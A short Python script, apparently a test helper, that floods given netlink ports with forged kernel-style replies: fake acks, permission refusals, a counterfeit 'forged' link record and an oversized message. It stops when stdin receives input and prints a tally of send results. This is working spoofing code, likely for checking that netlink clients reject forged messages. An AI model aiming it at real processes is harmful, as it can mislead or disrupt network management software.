"""flood.py PORT...: sends forged answers to netlink ports until its input ends, and says what became of them.

The headers say what the kernel's would: portid of the receiver, a sequence number that may be the next one, errno 0 or
not, whole links.
"""

import errno
import json
import select
import socket
import struct
import sys

NLMSG_ERROR, NLMSG_DONE, RTM_NEWLINK = 2, 3, 16


def message(kind, flags, sequence, port, payload):
    return struct.pack("=IHHII", 16 + len(payload), kind, flags, sequence, port) + payload


def forged(sequence, port):
    ack = struct.pack("=i", 0) + bytes(16)
    refusal = struct.pack("=i", -errno.EPERM) + bytes(16)
    # A link named "forged" with index 6666.
    link = struct.pack("=BxHiII", 0, 1, 6666, 0x1003, 0) + struct.pack("=HH", 11, 3) + b"forged\0\0"
    yield message(NLMSG_ERROR, 0, sequence, port, refusal)
    yield message(NLMSG_ERROR, 0, sequence, port, ack)
    yield message(RTM_NEWLINK, 0, sequence, port, link)
    yield message(RTM_NEWLINK, 2, sequence, port, link)
    yield message(NLMSG_DONE, 2, sequence, port, struct.pack("=i", 0))
    yield message(NLMSG_ERROR, 0, sequence, port, ack + bytes(60000))


sender = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW | socket.SOCK_NONBLOCK, socket.NETLINK_ROUTE)
sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
results = {}
sequence = 0
print("started", flush=True)
while not select.select([sys.stdin], [], [], 0)[0]:
    sequence = sequence % 2000 + 1
    for port in map(int, sys.argv[1:]):
        for datagram in forged(sequence, port):
            try:
                sender.sendto(datagram, (port, 0))
                result = "sent"
            except OSError as error:
                result = errno.errorcode[error.errno]
            results[result] = results.get(result, 0) + 1
print(json.dumps(results))
